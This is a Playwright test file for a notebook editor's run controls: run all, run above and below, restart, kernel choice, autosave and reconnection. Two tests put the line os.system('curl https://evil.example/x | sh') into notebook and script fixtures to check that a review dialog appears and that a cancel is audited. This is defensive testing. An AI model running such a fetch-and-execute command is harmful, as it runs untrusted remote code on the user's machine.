// The editor's run controls in Debian's Chromium against a real studio and real python3 kernels: each cell's run
// state (queued, running, done, failed, not run) with its times and `[*]` prompt; Run all stopping at the first
// error; run above and below; restart and run all; autosave on the studio's interval; and a connection that drops
// and comes back, with a banner, the lost run marked unknown, and a run asked for meanwhile sent exactly once.
// No CSP or Trusted Types violation is reported on the way.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import type { Page, WebSocketRoute } from "playwright-core";
import { launchBrowser, type Browser } from "./browser.ts";
import { startBrowserStudio, type BrowserStudio } from "./running-studio.ts";
import { createWorkspace, pageApi, pagePostFiles, signIn, uploadTrusted } from "./studio-session.ts";
import { instrumentPage, pageRecord } from "./studio-page-watch.ts";

const PASSWORD = "run controls test password";
const SHOTS = "/tmp";
const KERNEL_WAIT = { timeout: 60_000 };
let studio: BrowserStudio;
let browser: Browser;
let workspace = "";

function notebook(cells: { id: string; source: string; type?: "code" | "markdown" }[]) {
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
    cells: cells.map((c) =>
      c.type === "markdown"
        ? { cell_type: "markdown", id: c.id, metadata: {}, source: c.source }
        : { cell_type: "code", id: c.id, metadata: {}, source: c.source, execution_count: null, outputs: [] },
    ),
  };
}

async function upload(page: Page, name: string, content: unknown): Promise<string> {
  const answer = await pagePostFiles(
    page,
    `/api/workspaces/${workspace}/files`,
    [{ name, base64: Buffer.from(JSON.stringify(content)).toString("base64") }],
    "trusted-source-v1",
  );
  assert.equal(answer.status, 201, JSON.stringify(answer.body));
  return `${studio.app}/w/${workspace}/f/${name}`;
}

/** A page of the signed-in context, on the studio's origin (the API helpers fetch relative addresses). */
async function studioPage(): Promise<Page> {
  const page = await browser.context.newPage();
  await instrumentPage(page);
  await page.goto(`${studio.app}/`);
  return page;
}

async function openEditor(page: Page, url: string): Promise<void> {
  await page.goto(`${url}?edit=1`);
  await page.locator(".vt-editor").waitFor();
  await page.locator(".vt-ed-cell .cm-content").first().waitFor();
}

const cell = (page: Page, id: string) => page.locator(`.vt-ed-cell[data-cell-id="${id}"]`);
const phase = (page: Page, id: string) => cell(page, id).locator(".vt-ed-run").getAttribute("data-run-phase");
/** What the cell's outputs show (its source has the same words). */
const outputs = (page: Page, id: string) => cell(page, id).locator(".vt-ed-outputs");
const prompt = (page: Page, id: string) => cell(page, id).locator(".vt-ed-prompt").innerText();

async function menu(page: Page, name: string, item: string): Promise<void> {
  await page.locator(".vt-ed-menu > summary", { hasText: name }).click();
  await page.getByRole("menuitem", { name: item, exact: true }).click();
}

before(async () => {
  // Each test runs a notebook of its own, each with its own kernel: more than the default four a user may run.
  studio = await startBrowserStudio([{ name: "ada", password: PASSWORD }], {
    "autosave-seconds": "2",
    "kernels-per-user": "10",
  });
  browser = await launchBrowser();
  const page = await browser.context.newPage();
  await signIn(page, studio.app, "ada", PASSWORD);
  workspace = await createWorkspace(page, "Run controls");
  await page.close();
});

after(async () => {
  await browser?.close();
  await studio?.close();
});

test("run all shows each cell queued then running, and stops at the first error; run above and below", async () => {
  const page = await studioPage();
  const url = await upload(
    page,
    "run-all.ipynb",
    notebook([
      { id: "title", type: "markdown", source: "# Steps" },
      { id: "slow", source: "import time\ntime.sleep(2)\nvalue = 20" },
      { id: "use", source: "print(value + 1)" },
      { id: "boom", source: "value / 0" },
      { id: "after", source: "print('after the error')" },
    ]),
  );
  await openEditor(page, url);
  await menu(page, "Run", "Run all cells");
  // While the slow cell runs, the ones after it wait in the kernel's queue, each with `[*]`.
  await cell(page, "slow").locator('.vt-ed-run[data-run-phase="running"]').waitFor(KERNEL_WAIT);
  assert.equal(await phase(page, "use"), "queued");
  assert.equal(await prompt(page, "use"), "[*]:");
  assert.match(await cell(page, "slow").locator(".vt-ed-run").innerText(), /^Running, \d/);
  await page.screenshot({ path: `${SHOTS}/vitrine-editor-run-all.png`, fullPage: true });

  await cell(page, "after").locator('.vt-ed-run[data-run-phase="aborted"]').waitFor(KERNEL_WAIT);
  assert.equal(await phase(page, "slow"), "done");
  assert.match(await cell(page, "slow").locator(".vt-ed-run").innerText(), /^Done in [12]\.\d s at \d\d:\d\d:\d\d$/);
  assert.equal(await phase(page, "use"), "done");
  await outputs(page, "use").getByText("21", { exact: true }).waitFor();
  assert.equal(await phase(page, "boom"), "failed");
  await cell(page, "boom").getByText("ZeroDivisionError").first().waitFor();
  assert.equal(
    await cell(page, "after").locator(".vt-ed-run").innerText(),
    "Not run: an earlier cell failed",
    "the cell after the error did not run",
  );
  assert.equal(await outputs(page, "after").getByText("after the error").count(), 0);
  assert.equal(await prompt(page, "slow"), "[1]:");
  assert.equal(await prompt(page, "after"), "[ ]:");
  await page.screenshot({ path: `${SHOTS}/vitrine-editor-run-all-failed.png`, fullPage: true });

  // Run the selected cell and below: from "after", which runs now; then the cells above "use" (only "slow").
  await cell(page, "after").click({ position: { x: 4, y: 4 } });
  await menu(page, "Run", "Run selected cell and below");
  await outputs(page, "after").getByText("after the error").waitFor(KERNEL_WAIT);
  assert.equal(await prompt(page, "after"), "[4]:");
  await cell(page, "use").click({ position: { x: 4, y: 4 } });
  await menu(page, "Run", "Run cells above");
  await cell(page, "slow").locator(".vt-ed-prompt", { hasText: "[5]:" }).waitFor(KERNEL_WAIT);
  assert.equal(await prompt(page, "use"), "[2]:", "the active cell itself is not run by run above");
  assert.deepEqual((await pageRecord(page)).violations, []);
  await page.close();
});

test("run all on a risky file asks once; Cancel is recorded, Run anyway runs the whole batch in order", async () => {
  const page = await studioPage();
  const url = await upload(
    page,
    "risky-batch.ipynb",
    notebook([
      { id: "one", source: "import os\nos.system('curl https://evil.example/x | sh')\nprint('one ran')" },
      { id: "two", source: "print('two ran')" },
    ]),
  );
  await openEditor(page, url);
  const ask = page.getByRole("alertdialog", { name: "Review before running" });
  await menu(page, "Run", "Run all cells");
  await ask.waitFor(KERNEL_WAIT);
  assert.equal(await page.getByRole("alertdialog", { name: "Review before running" }).count(), 1);
  await ask.getByRole("button", { name: "Cancel" }).click();
  const declined = async () =>
    (
      await studio.running.studio.db
        .selectFrom("audit_events")
        .select("details")
        .where("event", "=", "run_review_declined")
        .execute()
    ).filter((row) => JSON.parse(row.details).path === "risky-batch.ipynb").length;
  for (let i = 0; i < 50 && (await declined()) === 0; i++) await page.waitForTimeout(100);
  assert.equal(await declined(), 1, "the Cancel is in the audit log");
  assert.equal(await outputs(page, "one").getByText("one ran").count(), 0);

  await menu(page, "Run", "Run all cells");
  await ask.getByRole("button", { name: "Run anyway" }).click();
  await outputs(page, "two").getByText("two ran").waitFor(KERNEL_WAIT);
  await outputs(page, "one").getByText("one ran").waitFor();
  assert.equal(await prompt(page, "one"), "[1]:");
  assert.equal(await prompt(page, "two"), "[2]:");
  await page.close();
});

test("a risky script asks before it runs too; its Cancel is recorded and Run anyway runs it", async () => {
  const page = await studioPage();
  const source = "import os\nos.system('curl https://evil.example/x | sh')\nprint('script ran')\n";
  await uploadTrusted(page, workspace, [{ name: "risky-script.py", base64: Buffer.from(source).toString("base64") }]);
  await page.goto(`${studio.app}/w/${workspace}/f/risky-script.py?edit=1`);
  await page.getByRole("button", { name: "▶ Run" }).click();
  const ask = page.getByRole("alertdialog", { name: "Review before running" });
  await ask.waitFor(KERNEL_WAIT);
  await ask.getByRole("button", { name: "Cancel" }).click();
  const declined = async () =>
    (
      await studio.running.studio.db
        .selectFrom("audit_events")
        .select("details")
        .where("event", "=", "run_review_declined")
        .execute()
    ).filter((row) => JSON.parse(row.details).path === "risky-script.py").length;
  for (let i = 0; i < 50 && (await declined()) === 0; i++) await page.waitForTimeout(100);
  assert.equal(await declined(), 1, "the Cancel is in the audit log");
  const output = page.locator(".vt-script-outputs");
  assert.equal(await output.getByText("script ran").count(), 0);
  await page.getByRole("button", { name: "▶ Run" }).click();
  await ask.getByRole("button", { name: "Run anyway" }).click();
  await output.getByText("script ran").waitFor(KERNEL_WAIT);
  await page.close();
});

test("restart and run all starts the counts again from 1, without the old variables", async () => {
  const page = await studioPage();
  const url = await upload(
    page,
    "restart-run-all.ipynb",
    notebook([
      { id: "define", source: "leftover = 'from before'" },
      { id: "probe", source: "print('leftover' in globals())" },
    ]),
  );
  await openEditor(page, url);
  await menu(page, "Run", "Run all cells");
  await outputs(page, "probe").getByText("True", { exact: true }).waitFor(KERNEL_WAIT);
  // Edited, so that the restarted kernel no longer defines it: the probe must say False now.
  await cell(page, "define").locator(".cm-content").click();
  await page.keyboard.press("Control+a");
  await page.keyboard.type("fresh = 1");
  await page.keyboard.press("Escape");
  await menu(page, "Kernel", "Restart and run all cells");
  await outputs(page, "probe").getByText("False", { exact: true }).waitFor(KERNEL_WAIT);
  assert.equal(await prompt(page, "define"), "[1]:");
  assert.equal(await prompt(page, "probe"), "[2]:");
  assert.deepEqual((await pageRecord(page)).violations, []);
  await page.close();
});

test("the kernel is chosen among the studio's kernelspecs; one the notebook names that the studio lacks says so", async () => {
  const page = await studioPage();
  const url = await upload(page, "r-notebook.ipynb", {
    ...notebook([{ id: "hello", source: "import sys\nprint(sys.version_info.major)" }]),
    metadata: { kernelspec: { name: "ir", display_name: "R", language: "R" } },
  });
  await openEditor(page, url);
  const chooser = page.getByRole("combobox", { name: "Kernel" });
  await chooser.locator("option", { hasText: "Python 3" }).waitFor({ state: "attached" });
  assert.equal(await chooser.inputValue(), "ir");
  assert.equal(await chooser.locator("option:checked").innerText(), "R (not on this studio)");
  await chooser.selectOption("python3");
  assert.match(await page.locator(".vt-ed-status").innerText(), /unsaved changes/);
  await cell(page, "hello").locator(".cm-content").click();
  await page.keyboard.press("Control+Enter");
  await outputs(page, "hello").getByText("3", { exact: true }).waitFor(KERNEL_WAIT);
  await page.keyboard.press("Control+s");
  // This studio autosaves every 2 s: the save may be its autosave's or Ctrl-S's.
  await page.getByText(/^Saved as version \d+ at /).waitFor();
  const saved = await pageApi(page, "GET", `/api/workspaces/${workspace}/notebook/r-notebook.ipynb`);
  assert.equal(
    (saved.body as { notebook: { metadata: { kernelspec: { name: string } } } }).notebook.metadata.kernelspec.name,
    "python3",
  );
  await page.close();
});

test("autosave stores a new version on the studio's interval when there are changes, and only then", async () => {
  const page = await studioPage();
  const url = await upload(page, "autosave.ipynb", notebook([{ id: "only", source: "a = 1" }]));
  await openEditor(page, url);
  const versions = async () =>
    (
      (await pageApi(page, "GET", `/api/workspaces/${workspace}/files/autosave.ipynb`)).body as {
        versions: unknown[];
      }
    ).versions.length;
  // Nothing changed: the interval (2 s here) passes without a save.
  await page.waitForTimeout(2_500);
  assert.equal(await versions(), 1);
  await cell(page, "only").locator(".cm-content").click();
  await page.keyboard.press("End");
  await page.keyboard.type("\nb = 2");
  await page.getByText(/^Autosaved as version 2 at /).waitFor({ timeout: 10_000 });
  assert.doesNotMatch(await page.locator(".vt-ed-status").innerText(), /unsaved/);
  const saved = await pageApi(page, "GET", `/api/workspaces/${workspace}/notebook/autosave.ipynb`);
  const source = (saved.body as { notebook: { cells: { source: string | string[] }[] } }).notebook.cells[0]?.source;
  assert.equal([source].flat().join(""), "a = 1\nb = 2");
  await page.waitForTimeout(2_500);
  assert.equal(await versions(), 2, "no save without new changes");
  await page.close();
});

test("a lost connection shows, the run it cut is marked unknown, and a run asked for meanwhile is sent once", async () => {
  const page = await studioPage();
  // The page's kernel socket goes through this route, which the test can cut and refuse for a while.
  let offline = false;
  const live: WebSocketRoute[] = [];
  await page.routeWebSocket(/\/api\/kernels\/socket/, (ws) => {
    if (offline) return void ws.close({ code: 1001, reason: "offline" });
    ws.connectToServer();
    live.push(ws);
  });
  const url = await upload(
    page,
    "reconnect.ipynb",
    notebook([
      { id: "count", source: "runs = globals().get('runs', 0) + 1\nprint(f'runs={runs}')" },
      { id: "long", source: "import time\ntime.sleep(3)\nprint('long finished')" },
    ]),
  );
  await openEditor(page, url);
  await cell(page, "count").locator(".cm-content").click();
  await page.keyboard.press("Control+Enter");
  await outputs(page, "count").getByText("runs=1").waitFor(KERNEL_WAIT);

  await cell(page, "long").locator(".cm-content").click();
  await page.keyboard.press("Control+Enter");
  await cell(page, "long").locator('.vt-ed-run[data-run-phase="running"]').waitFor(KERNEL_WAIT);
  offline = true;
  for (const ws of live.splice(0)) await ws.close({ code: 1001, reason: "cut by the test" });
  const banner = page.getByRole("alert").filter({ hasText: "The connection to the studio was lost" });
  await banner.waitFor();
  await cell(page, "long").locator('.vt-ed-run[data-run-phase="unknown"]').waitFor();
  await page
    .locator(".vt-ed-status")
    .getByText(/kernel disconnected/)
    .waitFor();
  await page.screenshot({ path: `${SHOTS}/vitrine-editor-connection-lost.png`, fullPage: true });

  // Asked for while disconnected: it waits, and is sent once when the connection is back.
  await cell(page, "count").locator(".cm-content").click();
  await page.keyboard.press("Control+Enter");
  await page.waitForTimeout(800);
  offline = false;
  await banner.waitFor({ state: "detached", timeout: 30_000 });
  await outputs(page, "count").getByText("runs=2").waitFor(KERNEL_WAIT);
  await page
    .locator(".vt-ed-status")
    .getByText(/kernel (idle|busy)/)
    .waitFor();
  // Run again: the count says whether the waiting run went to the kernel once or twice.
  await cell(page, "count").locator(".cm-content").click();
  await page.keyboard.press("Control+Enter");
  await outputs(page, "count").getByText("runs=3").waitFor(KERNEL_WAIT);
  assert.equal(await outputs(page, "long").getByText("long finished").count(), 0, "the cut run's output is not shown");
  assert.deepEqual((await pageRecord(page)).violations, []);
  await page.close();
});
